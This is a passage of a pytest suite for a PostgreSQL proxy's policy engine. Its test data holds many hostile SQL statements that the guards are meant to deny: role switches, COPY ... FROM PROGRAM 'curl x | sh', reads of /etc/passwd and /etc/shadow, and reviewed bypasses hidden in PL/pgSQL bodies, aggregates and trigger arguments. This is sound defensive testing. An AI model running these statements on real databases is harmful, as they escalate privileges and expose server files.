"""The policy decision point: default allow, and the built-in guards that are always on."""

from __future__ import annotations

import re
from dataclasses import replace

import pytest

from dbward.core.types import (
    Decision,
    Identity,
    PolicyRequest,
    ProtocolPath,
    SessionContext,
    Statement,
    StatementKind,
    Verdict,
)
from dbward.policy import engine
from dbward.policy.engine import ALLOW, GUARDS, decide
from dbward.sql.postgres import PostgresClassifier, function_call_statement

SESSION = SessionContext(
    session_id="s1",
    identity=Identity("alice"),
    listener="main",
    database="app",
    client_addr="127.0.0.1",
    application_name="psql",
)
CLF = PostgresClassifier()


def request(statement: Statement, path: ProtocolPath = ProtocolPath.SIMPLE) -> PolicyRequest:
    return PolicyRequest(session=SESSION, statement=statement, path=path, now=0.0)


def decisions(sql: str) -> list[Decision]:
    return [decide(request(s)) for s in CLF.classify(sql)]


def denied_by(sql: str) -> list[str]:
    return [d.rule for d in decisions(sql) if not d.allowed]


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT * FROM t",
        "SELECT 'SET ROLE admin'",
        "SELECT $$;SET ROLE x$$",
        "SELECT role FROM users",
        "SHOW role",
        "SET search_path = x",
        "SELECT current_setting('role')",
        "SELECT set_config('search_path', 'x', false)",
        "RESET ALL",
        "UPDATE t SET a = 1",
        "DELETE FROM t",
        "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
        "COPY t FROM STDIN",
        "COPY t TO STDOUT (FORMAT csv)",
        "EXPLAIN ANALYZE DELETE FROM t",
        "CREATE TABLE t (a int)",
        "GRANT SELECT ON t TO bob",
        "DO $$BEGIN END$$",
        "BEGIN",
    ],
)
def test_allowed(sql: str) -> None:
    for decision in decisions(sql):
        assert decision is ALLOW
    assert ALLOW.verdict is Verdict.ALLOW
    assert (ALLOW.rule, ALLOW.reason) == ("default.allow", "allowed")


@pytest.mark.parametrize(
    "sql",
    [
        "SET ROLE admin",
        "SeT RoLe admin",
        "SET LOCAL ROLE admin",
        "RESET ROLE",
        "SET SESSION AUTHORIZATION DEFAULT",
        "SET SESSION AUTHORIZATION admin",
        'SET "role" = admin',
        "ALTER ROLE alice SET role = admin",
        "/* ; */ SET ROLE x",
        "-- x\nSET ROLE y",
        "SELECT set_config('ROLE', 'x', false)",
        "SELECT pg_catalog.set_config('role','x',true)",
        "select set_config(lower('ROLE'), 'x', false)",
        "SELECT * FROM (SELECT set_config('role', 'x', false)) s",
        "WITH c AS (SELECT set_config('role', 'x', false)) SELECT * FROM c",
        "SELECT coalesce(set_config('role', 'x', false), '')",
        "EXPLAIN ANALYZE SELECT set_config('role', 'x', false)",
        "CREATE TABLE t AS SELECT set_config('role', 'x', false)",
        "DECLARE c CURSOR FOR SELECT set_config('role', 'x', false)",
        "PREPARE p AS SELECT set_config('role', 'x', false)",
    ],
)
def test_role_switch_denied(sql: str) -> None:
    (decision,) = decisions(sql)
    assert decision.verdict is Verdict.DENY
    assert decision.rule == "guard.role_switch"
    assert decision.sqlstate == "42501"
    assert decision.reason.startswith("dbward: changing role or session authorization")
    assert "admin" not in decision.reason  # never echo the statement


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        ("COPY t TO PROGRAM 'id'", "guard.copy_program"),
        ("COPY t FROM PROGRAM 'curl x | sh'", "guard.copy_program"),
        ("COPY (SELECT 1) TO '/tmp/x'", "guard.copy_file"),
        ("COPY t FROM '/etc/passwd'", "guard.copy_file"),
    ],
)
def test_copy_guards(sql: str, rule: str) -> None:
    (decision,) = decisions(sql)
    assert (decision.verdict, decision.rule, decision.sqlstate) == (Verdict.DENY, rule, "42501")


@pytest.mark.parametrize(
    ("sql", "named"),
    [
        ("SELECT pg_read_file('/etc/passwd')", "pg_read_file"),
        ("SELECT pg_catalog.pg_read_binary_file('/etc/shadow', 0, 10)", "pg_read_binary_file"),
        ("SELECT * FROM pg_ls_dir('/')", "pg_ls_dir"),
        ("WITH s AS (SELECT pg_stat_file('pg_hba.conf')) SELECT * FROM s", "pg_stat_file"),
        ("SELECT lo_import('/etc/passwd')", "lo_import"),
        ("SELECT lo_export(16384, '/tmp/x'), lo_import('/y')", "lo_export, lo_import"),
        ("CREATE VIEW v AS SELECT PG_READ_FILE('x')", "pg_read_file"),
        ("SELECT pg_file_write('/tmp/x', 'data', false)", "pg_file_write"),
        ("PREPARE p AS SELECT pg_read_file($1)", "pg_read_file"),
    ],
)
def test_server_file_functions_are_denied(sql: str, named: str) -> None:
    (decision,) = decisions(sql)
    assert (decision.verdict, decision.rule) == (Verdict.DENY, "guard.server_file")
    assert decision.reason.endswith(f"not allowed ({named})")
    assert "/" not in decision.reason  # never echo the arguments


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        # Verified on PostgreSQL 15: this switches the session's role (SPI runs it read-only,
        # and set_config inside a SELECT counts as a read).
        (
            "SELECT query_to_xml('SELECT set_config(''role'', ''postgres'', false)', true, "
            "false, '')",
            "guard.role_switch",
        ),
        (
            "SELECT ts_stat('SELECT to_tsvector(pg_read_file(''/etc/passwd''))')",
            "guard.server_file",
        ),
        (
            "SELECT * FROM crosstab('SELECT 1, 2, pg_read_file(''x'')') AS t(a int, b text)",
            "guard.server_file",
        ),
        (
            "SELECT query_to_xml('SELECT query_to_xml(''SET ROLE x'', true, false, '''''''')', "
            "true, false, '')",
            "guard.role_switch",
        ),
        ("SELECT query_to_xml($1, true, false, '')", "guard.dynamic_sql"),
        (
            "SELECT query_to_xml('SELECT ' || 'set_config(...)', true, false, '')",
            "guard.dynamic_sql",
        ),
        ("SELECT ts_rewrite('a'::tsquery, $1)", "guard.dynamic_sql"),
        ("SELECT query_to_xml('SELEKT', true, false, '')", "guard.dynamic_sql"),
        ("SELECT * FROM connectby('t', 'id', 'pid', '1', 0) AS x(id int)", "guard.dynamic_sql"),
        # A prepared statement run from SQL text: what the name means then is unknown here
        # (CREATE TEMP TABLE y AS EXECUTE p2 in a DO block copied the table p2 read, on
        # PostgreSQL 15, with only y recorded; review round 18).
        (
            "DO $$ BEGIN EXECUTE 'CREATE TEMP TABLE y AS EXECUTE p2'; END $$",
            "guard.dynamic_sql",
        ),
        ("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'EXECUTE p2'", "guard.dynamic_sql"),
        ("SELECT query_to_xml('EXECUTE p2', true, false, '')", "guard.dynamic_sql"),
        # The XML export of a table no constant names, or of every table (review round 18).
        (
            "SELECT table_to_xml(c.oid::regclass, true, false, '') FROM pg_class c",
            "guard.dynamic_sql",
        ),
        ("SELECT table_to_xml($1, true, false, '')", "guard.dynamic_sql"),
        ("SELECT table_to_xml('16384', true, false, '')", "guard.dynamic_sql"),
        ("SELECT schema_to_xml('public', true, false, '')", "guard.dynamic_sql"),
        ("SELECT database_to_xml_and_xmlschema(true, false, '')", "guard.dynamic_sql"),
        (
            "CREATE AGGREGATE a(bool, bool, text) (sfunc = f, stype = regclass, "
            "finalfunc = table_to_xml, finalfunc_extra)",
            "guard.dynamic_sql",
        ),
    ],
)
def test_sql_run_by_functions_is_checked_like_the_statement(sql: str, rule: str) -> None:
    (decision,) = decisions(sql)
    assert (decision.verdict, decision.rule) == (Verdict.DENY, rule)


@pytest.mark.parametrize(
    "sql",
    [
        "SELECT query_to_xml('SELECT * FROM accounts', true, false, '')",
        "SELECT ts_stat('SELECT body_tsv FROM docs')",
        "SELECT ts_rewrite('a & b'::tsquery, 'SELECT t, s FROM aliases')",
        "SELECT ts_rewrite('a'::tsquery, 'a'::tsquery, $1)",  # three arguments: no SQL
        "SELECT * FROM crosstab('SELECT r, c, v FROM ct', 2) AS x(r text, a int)",
        "SELECT table_to_xml('public.accounts'::regclass, true, false, '')",
    ],
)
def test_constant_sql_run_by_functions_is_allowed(sql: str) -> None:
    assert decisions(sql) == [ALLOW]


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        # Verified on PostgreSQL 15 as a non-superuser: calling the aggregate switched the role.
        (
            "CREATE AGGREGATE pg_temp.rsw(text, boolean) "
            "(sfunc = set_config, stype = text, initcond = 'role')",
            "guard.role_switch",
        ),
        (
            "CREATE OPERATOR pg_temp.### (RIGHTARG = text, FUNCTION = pg_read_file)",
            "guard.server_file",
        ),
        (
            "CREATE OPERATOR pg_temp.>>> (LEFTARG = oid, RIGHTARG = text, "
            "PROCEDURE = pg_catalog.lo_export)",
            "guard.server_file",
        ),
        (
            "CREATE AGGREGATE pg_temp.tr(text) "
            "(sfunc = ts_rewrite, stype = tsquery, initcond = 'a')",
            "guard.dynamic_sql",
        ),
        ("CREATE CAST (text AS int) WITH FUNCTION pg_read_file(text)", "guard.server_file"),
        (
            "CREATE FOREIGN TABLE ft (l text) SERVER files OPTIONS (program 'id')",
            "guard.copy_program",
        ),
        (
            "CREATE FOREIGN TABLE ft (l text) SERVER files OPTIONS (filename '/x')",
            "guard.copy_file",
        ),
        ("ALTER FOREIGN TABLE ft OPTIONS (SET program 'id')", "guard.copy_program"),
        (
            "CREATE FUNCTION f() RETURNS text LANGUAGE sql "
            "AS $$ SELECT set_config('role', 'x', false) $$",
            "guard.role_switch",
        ),
        ("CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS 'SET ROLE x'", "guard.role_switch"),
    ],
)
def test_ddl_that_makes_a_guarded_function_callable_is_denied(sql: str, rule: str) -> None:
    """An aggregate, operator or cast runs its function where no call names it: deny the DDL."""
    (decision,) = decisions(sql)
    assert (decision.verdict, decision.rule) == (Verdict.DENY, rule)


@pytest.mark.parametrize(
    "sql",
    [
        "CREATE AGGREGATE mysum(int) (sfunc = int4pl, stype = int)",
        "CREATE OPERATOR === (LEFTARG = int, RIGHTARG = int, FUNCTION = int4eq)",
        "CREATE FUNCTION f() RETURNS bigint LANGUAGE sql AS 'SELECT count(*) FROM accounts'",
        "CREATE FUNCTION g() RETURNS int LANGUAGE plpgsql AS 'BEGIN RETURN 1; END'",
        "CREATE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql "
        "AS $$ BEGIN NEW.updated_at := now(); RETURN NEW; END $$",
        "DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM accounts; "
        "RAISE NOTICE '%', n; END $$",
        "DO $$ BEGIN EXECUTE 'CREATE TEMP TABLE scratch (x int)'; END $$",
        "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1; END",
        "ALTER FUNCTION touch() RENAME TO touch_row",
        "DO $$ DECLARE r record := ROW(1, 'a'); c CURSOR (k int) FOR SELECT * FROM t WHERE id = k; "
        "n int DEFAULT 0; BEGIN DECLARE m int = 2; BEGIN n := m; END; END $$",
        "DO $$ <<outer>> DECLARE s NO SCROLL CURSOR FOR SELECT 1; r record; "
        "BEGIN FOR i IN 1..2 LOOP DECLARE q record; BEGIN NULL; END; END LOOP; END $$",
        "CREATE FUNCTION touch2() RETURNS trigger LANGUAGE plpgsql AS $$ DECLARE "
        "\"Mixed Case\" record; BEGIN IF TG_OP = 'DELETE' THEN RETURN OLD; END IF; "
        "RETURN NEW; END $$",
        "DO $$ -- variables\nDECLARE /* the row */ r record := ROW(1); c /* cur */ CURSOR FOR "
        "SELECT 1 WHERE 1 = 1; BEGIN NULL; END $$",
        "DO $$#variable_conflict use_column\nDECLARE r record := ROW(1); BEGIN NULL; END $$",
        "CREATE FUNCTION f(a int) RETURNS int LANGUAGE plpgsql AS $$ DECLARE DECLARE p ALIAS "
        "FOR $1; q ALIAS FOR a; c NO SCROLL CURSOR (k int, j text) IS SELECT k, j /* c */; "
        'r record := ROW(1) -- r\n; "We""ird" int := 1; \u00c0BC text DEFAULT \'x;y\'; '
        "s CONSTANT numeric(10, 2) = 3.5; BEGIN RETURN p + q; END $$",
        "CREATE FOREIGN TABLE ft (l text) SERVER pg OPTIONS (schema_name 'public')",
        "CREATE TRIGGER t BEFORE UPDATE ON t FOR EACH ROW EXECUTE FUNCTION moddatetime(updated_at)",
    ],
)
def test_ordinary_ddl_naming_functions_is_allowed(sql: str) -> None:
    assert decisions(sql) == [ALLOW]


@pytest.mark.parametrize(
    ("sql", "rule"),
    [
        # Found in review, each verified on PostgreSQL 15 as a non-superuser.
        (
            "CREATE AGGREGATE a(text, boolean) (sfunc1 = set_config, stype1 = text, "
            "initcond1 = 'role')",
            "guard.role_switch",
        ),
        ("CREATE AGGREGATE tr(text) (sfunc1 = ts_rewrite, stype1 = tsquery)", "guard.dynamic_sql"),
        ("SELECT ('/etc/hostname'::text).pg_read_file", "guard.server_file"),
        ("SELECT ('/etc/passwd'::text).lo_import", "guard.server_file"),
        ("SELECT t.ts_stat FROM unnest(ARRAY['SELECT 1']) t", "guard.dynamic_sql"),
        ("SELECT set_config('(abcd)'::k::text, 'x', false)", "guard.role_switch"),
        ("SELECT set_config('role'::text, 'x', false)", "guard.role_switch"),
        ("SELECT query_to_xml('SELECT 1'::k::text, true, false, '')", "guard.dynamic_sql"),
        ("SET standard_conforming_strings = off", "guard.string_syntax"),
        ("SET backslash_quote = on", "guard.string_syntax"),
        (
            "SELECT set_config('standard_conforming_strings', 'off', false)",
            "guard.string_syntax",
        ),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET standard_conforming_strings = off "
            "AS 'SELECT 1'",
            "guard.string_syntax",
        ),
        ("ALTER ROLE svc SET standard_conforming_strings TO false", "guard.string_syntax"),
        ("CREATE SCHEMA s AUTHORIZATION other CREATE VIEW v AS SELECT 1", "guard.role_switch"),
        # Fifth round: an updatable view over pg_settings, and SQL read later holding \'.
        ("CREATE TEMP VIEW v AS SELECT * FROM pg_settings", "guard.string_syntax"),
        (
            "CREATE FUNCTION f() RETURNS text LANGUAGE sql "
            "AS $b$SELECT 'a\\', ' ; SET ROLE r; --'$b$",
            "guard.string_syntax",
        ),
        ("SELECT set_config(E'rol\\x65', 'r', false)", "guard.role_switch"),
        # Sixth round: || shadowed through search_path, ownership given away, rules over
        # pg_settings, any UPDATE of pg_settings, adminpack's other name for pg_read_file.
        ("SELECT set_config('app.' || 'x', 'r', false)", "guard.role_switch"),
        ("ALTER FUNCTION f() OWNER TO target", "guard.role_switch"),
        ("ALTER TABLE t OWNER TO target", "guard.role_switch"),
        ("REASSIGN OWNED BY me TO target", "guard.role_switch"),
        (
            'CREATE RULE "_RETURN" AS ON SELECT TO t DO INSTEAD '
            "SELECT name, setting FROM pg_catalog.pg_settings",
            "guard.string_syntax",
        ),
        ("UPDATE pg_settings SET setting = '1MB' WHERE name = 'work_mem'", "guard.string_syntax"),
        ("SELECT pg_read_file_old('/etc/passwd', 0, 100)", "guard.server_file"),
        # Seventh round: a view over pg_settings as an element of CREATE SCHEMA.
        ("CREATE SCHEMA s1 CREATE VIEW v AS SELECT * FROM pg_settings", "guard.string_syntax"),
        (
            "SELECT * FROM xpath_table('x', 'x', 't', '/a', 'true') AS t(k text, v text)",
            "guard.dynamic_sql",
        ),
        # Eighth round: PL/pgSQL bodies (DO and functions) were never read; code in C or
        # `internal` aliases any built-in; a renamed built-in; adminpack 1.0's names.
        ("DO $$ BEGIN RAISE NOTICE '%', pg_read_file('/etc/passwd'); END $$", "guard.server_file"),
        (
            "CREATE FUNCTION n(p text) RETURNS text LANGUAGE plpgsql "
            "AS $$ BEGIN RETURN pg_read_file(p); END $$",
            "guard.server_file",
        ),
        ("DO $$ BEGIN COPY t FROM PROGRAM 'id'; END $$", "guard.copy_program"),
        ("DO $$ BEGIN COPY (SELECT 1) TO '/tmp/x'; END $$", "guard.copy_file"),
        (
            "DO $$ BEGIN SET LOCAL ROLE admin; EXECUTE format('COPY t TO PROGRAM %L', 'x'); END $$",
            "guard.role_switch",
        ),
        ("DO $$ BEGIN EXECUTE 'SET ROLE ' || 'admin'; END $$", "guard.dynamic_sql"),
        ("DO $$ BEGIN EXECUTE 'SET ROLE admin'; END $$", "guard.role_switch"),
        (
            "DO $$ DECLARE r record; BEGIN FOR r IN EXECUTE 'SELECT pg_read_file(''/x'')' "
            "LOOP END LOOP; END $$",
            "guard.server_file",
        ),
        (
            "CREATE FUNCTION q(s text) RETURNS SETOF int LANGUAGE plpgsql "
            "AS $$ BEGIN RETURN QUERY EXECUTE s; END $$",
            "guard.dynamic_sql",
        ),
        (
            "DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'SELECT ' || 1; END $$",
            "guard.dynamic_sql",
        ),
        (
            "DO $$ DECLARE x text := set_config('role', 'admin', false); BEGIN END $$",
            "guard.role_switch",
        ),
        (
            "DO $$ DECLARE a text[]; BEGIN a[length(pg_read_file('/x'))] := 'y'; END $$",
            "guard.server_file",
        ),
        (
            "DO $$ BEGIN PERFORM set_config('standard_conforming_strings', 'off', false); END $$",
            "guard.string_syntax",
        ),
        ("DO $$ BEGIN DO $i$ BEGIN SET ROLE admin; END $i$; END $$", "guard.role_switch"),
        ("DO $$ BEGIN undeclared := 1; END $$", "guard.uninspectable_code"),
        (
            "CREATE FUNCTION rf(text) RETURNS text LANGUAGE internal STRICT AS 'pg_read_file_all'",
            "guard.uninspectable_code",
        ),
        (
            "CREATE FUNCTION sc(text, text, boolean) RETURNS text LANGUAGE internal "
            "AS 'set_config_by_name'",
            "guard.uninspectable_code",
        ),
        ("CREATE FUNCTION c(int) RETURNS int LANGUAGE c AS 'l', 's'", "guard.uninspectable_code"),
        ("CREATE FUNCTION p() RETURNS int LANGUAGE plperl AS 'ret'", "guard.uninspectable_code"),
        ("DO LANGUAGE plpython3u $$ import os $$", "guard.uninspectable_code"),
        ("ALTER FUNCTION pg_catalog.pg_read_file(text) RENAME TO harmless", "guard.server_file"),
        ("ALTER ROUTINE pg_read_file SET SCHEMA public", "guard.server_file"),
        ("ALTER FUNCTION set_config(text, text, bool) RENAME TO sc", "guard.role_switch"),
        ("SELECT pg_catalog.pg_file_read('/etc/passwd', 0, 100)", "guard.server_file"),
        ("SELECT pg_file_length('/etc/passwd')", "guard.server_file"),
        # Ninth round: libpg_query's JSON leaves out a record variable's default; scanner
        # offsets are characters, not bytes; \' in a PL/pgSQL body; a language compiled as
        # nothing.
        (
            "DO $$ DECLARE z record := ROW(pg_read_file('/etc/passwd')); "
            "BEGIN RAISE NOTICE '%', z.f1; END $$",
            "guard.server_file",
        ),
        (
            "DO $$ DECLARE a int := 1; z pg_settings DEFAULT (SELECT s FROM pg_settings s "
            "WHERE set_config('role', 'x', false) IS NULL LIMIT 1); BEGIN END $$",
            "guard.role_switch",
        ),
        (
            "DO $$ BEGIN DECLARE z record = ROW(set_config('role', 'r', false)); BEGIN END; END $$",
            "guard.role_switch",
        ),
        (
            'DO $$ DECLARE "\u00e9\u00e9\u00e9\'" text; BEGIN "\u00e9\u00e9\u00e9\'" := '
            "pg_read_file($p$/etc/passwd$p$) /*'*/ || 'a'; END $$",
            "guard.server_file",
        ),
        (
            "CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $b$BEGIN "
            "RAISE NOTICE 'x\\' ; RAISE NOTICE ' ; RETURN pg_read_file($p$/x$p$); --'; "
            "RETURN 'harmless'; END$b$",
            "guard.string_syntax",
        ),
        (
            "CREATE FUNCTION f() RETURNS int LANGUAGE 'PLPGSQL' AS 'BEGIN RETURN 1; END'",
            "guard.uninspectable_code",
        ),
        # Tenth round: the token reader took any CURSOR token for a cursor declaration, and a
        # DECLARE inside brackets (a column label) broke its depth for the rest of the body.
        (
            "DO $$ DECLARE cursor record := ROW(pg_read_file('/x')); "
            "BEGIN RAISE NOTICE '%', cursor; END $$",
            "guard.server_file",
        ),
        (
            "DO $$ DECLARE z public.cursor := ROW(pg_read_file('/x')); BEGIN END $$",
            "guard.server_file",
        ),
        (
            "DO $$ DECLARE cursor record := ROW(set_config('role', 'r', false)); BEGIN END $$",
            "guard.role_switch",
        ),
        (
            "DO $$ BEGIN PERFORM (SELECT 1 AS declare); DECLARE z record := "
            "ROW(pg_read_file('/x')); BEGIN RAISE NOTICE '%', z; END; END $$",
            "guard.server_file",
        ),
        (
            "CREATE FUNCTION f(p text) RETURNS text LANGUAGE plpgsql AS $$ BEGIN IF (SELECT true "
            "AS declare) THEN DECLARE z record := ROW(pg_read_file(p)); BEGIN RETURN z.f1; END; "
            "END IF; RETURN NULL; END $$",
            "guard.server_file",
        ),
        (
            "DO $$ BEGIN PERFORM 1 >> declare FROM t; DECLARE z record := "
            "ROW(pg_read_file('/x')); BEGIN END; END $$",
            "guard.uninspectable_code",  # misread, and so refused: z's default is not found
        ),
        (
            "DO $$ DECLARE z record; BEGIN PERFORM 1 >> declare FROM t; DECLARE z record := "
            "ROW(pg_read_file('/x')); BEGIN END; END $$",
            "guard.uninspectable_code",  # an outer z read does not vouch for the inner one
        ),
        # Thirteenth round: a compile option before the first DECLARE hid that section from
        # the token reader, and a same-named variable elsewhere vouched for the missed record.
        (
            "DO $$#variable_conflict use_column\nDECLARE z record := ROW(pg_read_file('/x')); "
            "BEGIN DECLARE z int := 1; BEGIN END; END$$",
            "guard.server_file",
        ),
        (
            "DO $$#print_strict_params on\nDECLARE z record := ROW(set_config('role', 'r', "
            "false)); BEGIN DECLARE z int := 1; BEGIN END; END$$",
            "guard.role_switch",
        ),
        (
            "DO $$ # /* x */ variable_conflict use_column\nDECLARE z record := "
            "ROW(pg_read_file('/x')); BEGIN DECLARE z int; BEGIN END; END $$",
            "guard.server_file",
        ),
        (  # a scalar of the same name on the same line cannot vouch for the record
            "DO $$ DECLARE z record := ROW(pg_read_file('/x')); BEGIN DECLARE z int; BEGIN END; "
            "END $$",
            "guard.server_file",
        ),
        (
            "CREATE FUNCTION f() RETURNS text LANGUAGE plpgsql AS $$ # /* x */ OPTION dump\n"
            "BEGIN RETURN 1; END$$",
            "guard.uninspectable_code",  # libpg_query would print the body to stdout
        ),
        # Fifteenth review: a useless extra DECLARE made the reader take the record `cursor`
        # for a cursor (no default read) and an ALIAS (no SQL keyword) counted as a variable
        # that vouched for it; SQL after THEN (`THEN declare`) started a DECLARE section, where
        # a statement read as a declaration vouched for a record the reader took for a cursor.
        (
            "DO $$ DECLARE cursor ALIAS FOR found; BEGIN DECLARE DECLARE cursor record := "
            "ROW(pg_read_file('/x')); BEGIN RAISE NOTICE '%', cursor; END; END $$",
            "guard.server_file",
        ),
        (
            "DO $$ DECLARE cursor ALIAS FOR found; BEGIN DECLARE DECLARE cursor record := "
            "ROW(set_config('role', 'r', false)); BEGIN END; END $$",
            "guard.role_switch",
        ),
        (
            "DO $$ DECLARE cursor boolean := true; z int; BEGIN\n"
            "PERFORM CASE WHEN true THEN declare END FROM (SELECT 1 AS declare) s;\n"
            "z := 5; IF cursor THEN DECLARE z record := ROW(pg_read_file('/x')); "
            "BEGIN RAISE NOTICE '%', z; END; END IF;\nEND $$",
            "guard.uninspectable_code",  # misread, and so refused: `z := 5` is no declaration
        ),
        (
            # The loop's own record is exempt by its datum, not its name: a declared record of
            # the same name still needs its default read.
            "DO $$ DECLARE c CURSOR FOR SELECT 1; BEGIN FOR r IN c LOOP NULL; END LOOP; "
            "DECLARE r record := ROW(pg_read_file('/x')); BEGIN RAISE NOTICE '%', r; END; END $$",
            "guard.server_file",
        ),
        (
            "DO $$ DECLARE alias boolean := true; z int; BEGIN\n"
            "PERFORM CASE WHEN true THEN declare END FROM (SELECT 1 AS declare) s;\n"
            "z := 5; IF alias THEN DECLARE z record := ROW(pg_read_file('/x')); "
            "BEGIN RAISE NOTICE '%', z; END; END IF;\nEND $$",
            "guard.uninspectable_code",
        ),
        # refint's trigger functions splice the trigger's arguments into SQL they run with SPI
        # (several statements allowed): COPY ... TO PROGRAM ran on an INSERT.
        (
            "CREATE TRIGGER t BEFORE INSERT ON fk FOR EACH ROW EXECUTE FUNCTION "
            "check_primary_key('id', 'pk WHERE false; COPY (SELECT 1) TO PROGRAM ''id''; "
            "SELECT 1 FROM pk', 'id')",
            "guard.dynamic_sql",
        ),
        (
            "CREATE CONSTRAINT TRIGGER t AFTER DELETE ON pk FOR EACH ROW EXECUTE PROCEDURE "
            "refint.check_foreign_key(1, 'cascade', 'id', 'fk', 'id')",
            "guard.dynamic_sql",
        ),
        ("ALTER FUNCTION check_primary_key() RENAME TO cpk", "guard.dynamic_sql"),
    ],
)
def test_reviewed_bypasses_are_denied(sql: str, rule: str) -> None:
    (decision,) = decisions(sql)
    assert (decision.verdict, decision.rule) == (Verdict.DENY, rule)


SERVICE_SESSION = replace(SESSION, service_role="svc")


@pytest.mark.parametrize(
    ("sql", "denied"),
    [
        ("ALTER ROLE CURRENT_USER PASSWORD 'x'", True),
        ("ALTER USER svc NOLOGIN", True),
        ("ALTER ROLE svc VALID UNTIL '2000-01-01'", True),
        ("ALTER ROLE svc IN DATABASE app SET search_path = evil", True),
        ("ALTER ROLE ALL SET search_path = evil", True),  # every role's default
        ("ALTER USER CURRENT_ROLE SET work_mem = '1kB'", True),
        ("ALTER ROLE svc RENAME TO other", True),
        ("DROP ROLE IF EXISTS bob, svc", True),
        ("REVOKE app_rw FROM svc", True),
        ("GRANT admin TO SESSION_USER", True),
        ("ALTER GROUP staff ADD USER svc", True),  # svc gains the group's privileges
        ("CREATE ROLE helper ROLE svc", True),
        ("SELECT query_to_xml('ALTER ROLE svc NOLOGIN', true, false, '')", True),
        ("DO $$ BEGIN ALTER ROLE CURRENT_USER NOLOGIN; END $$", True),
        ('ALTER ROLE "Svc" NOLOGIN', False),  # another role: names are case-sensitive
        ("ALTER ROLE bob PASSWORD 'x'", False),
        ("GRANT svc TO bob", False),  # bob gains svc's privileges: a policy matter, not a lockout
        ("CREATE ROLE helper LOGIN", False),
        ("ALTER ROLE bob SET work_mem = '64MB'", False),
    ],
)
def test_the_service_role_cannot_be_changed(sql: str, denied: bool) -> None:
    """Nineteenth review: through dbward the service role changed its own password, and every
    later login (everyone's) failed."""
    rules = [
        decide(PolicyRequest(SERVICE_SESSION, s, ProtocolPath.SIMPLE, 0.0)).rule
        for s in CLF.classify(sql)
    ]
    assert rules == (["guard.service_role"] if denied else ["default.allow"]), rules


@pytest.mark.parametrize(
    ("service", "sql", "denied"),
    [
        # Roles that are literally named like the keywords are other roles, not the keywords.
        ("svc", "ALTER ROLE \"CURRENT_USER\" PASSWORD 'x'", False),
        ("svc", 'DROP ROLE "ALL"', False),
        ("svc", 'GRANT admin TO "PUBLIC"', False),
        ("svc", 'ALTER ROLE "SESSION_USER" RENAME TO other', False),
        # ... unless one of them is the service role.
        ("CURRENT_USER", "ALTER ROLE \"CURRENT_USER\" PASSWORD 'x'", True),
        ("PUBLIC", 'REVOKE app_rw FROM "PUBLIC"', True),
        # A service role whose name needs quoting is still recognised, however it is written.
        ("Svc Role", 'ALTER ROLE "Svc Role" NOLOGIN', True),
        ("Svc Role", 'ALTER ROLE "Svc Role" RENAME TO x', True),
        ("Svc Role", 'ALTER ROLE "svc role" NOLOGIN', False),
        ("svc", 'ALTER ROLE "svc" NOLOGIN', True),
        # PostgreSQL cuts a name to 63 bytes, the startup packet's user name too: a longer
        # upstream.user logs in as its first 63 bytes, which statements name at any length.
        ("s" * 70, f"ALTER ROLE {'s' * 70} PASSWORD 'x'", True),
        ("s" * 70, f"ALTER ROLE {'s' * 63} NOLOGIN", True),
        ("s" * 70, f"ALTER ROLE {'s' * 62} NOLOGIN", False),
    ],
)
def test_role_names_that_look_like_keywords(service: str, sql: str, denied: bool) -> None:
    """guard.service_role refused every statement on a role named "CURRENT_USER", "ALL" or
    "PUBLIC" (the names were compared with the keywords), and compared a quoted service role
    name with the name as written."""
    session = replace(SESSION, service_role=service)
    rules = [
        decide(PolicyRequest(session, s, ProtocolPath.SIMPLE, 0.0)).rule for s in CLF.classify(sql)
    ]
    assert rules == (["guard.service_role"] if denied else ["default.allow"]), rules


@pytest.mark.parametrize(
    "sql",
    [
        "CREATE FUNCTION app_set(k text, v text) RETURNS text LANGUAGE sql "
        "AS $$ SELECT set_config('app.' OPERATOR(pg_catalog.||) k, v, true) $$",
        "ALTER TABLE t OWNER TO CURRENT_USER",
        "SELECT set_config('app.tenant', '42', true)",
        "SELECT set_config('role'::pg_catalog.text, 'x', false) IS NULL",
        "SET standard_conforming_strings = on",
        "RESET standard_conforming_strings",
        "SELECT t.name, t.total FROM t",
        "ALTER FOREIGN TABLE ft OPTIONS (DROP filename)",
        "CREATE SCHEMA s AUTHORIZATION other",
        # PostgreSQL's create_schema test: the elements are created by the role in use.
        "CREATE SCHEMA AUTHORIZATION CURRENT_ROLE CREATE TABLE t (id int)",
        "CREATE SCHEMA s AUTHORIZATION CURRENT_USER CREATE VIEW v AS SELECT 1",
        "CREATE SCHEMA s AUTHORIZATION SESSION_USER CREATE SEQUENCE q",
        # A cursor loop declares its record itself: no DECLARE shows it (fifteenth review).
        "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ DECLARE c CURSOR FOR "
        "SELECT 1 AS a; BEGIN FOR r IN c LOOP RAISE NOTICE '%', r.a; END LOOP; RETURN 1; END $$",
    ],
)
def test_reviewed_false_positives_are_allowed(sql: str) -> None:
    decided = decisions(sql)
    if "set_config('role'" in sql:  # a qualified cast still reads as the constant 'role'
        assert [d.rule for d in decided] == ["guard.role_switch"]
    else:
        assert decided == [ALLOW]


# PL/pgSQL PostgreSQL 15 compiles (its regression suite) but libpg_query, compiling without a
# catalog, refused: a VARIADIC parameter of a concrete array type, %TYPE in the signature, an
# array of a type it does not know, a type in a schema other than pg_catalog and public.
CATALOG_TYPED_CODE = [
    "CREATE FUNCTION vari(VARIADIC int[]) RETURNS void AS $$ BEGIN FOR i IN "
    "array_lower($1, 1)..array_upper($1, 1) LOOP RAISE NOTICE '%', $1[i]; END LOOP; END; "
    "$$ LANGUAGE plpgsql",
    "CREATE FUNCTION pleast(VARIADIC numeric[]) RETURNS numeric AS $$\n"
    "DECLARE aux numeric = $1[array_lower($1, 1)];\nBEGIN RETURN aux; END; $$ LANGUAGE plpgsql",
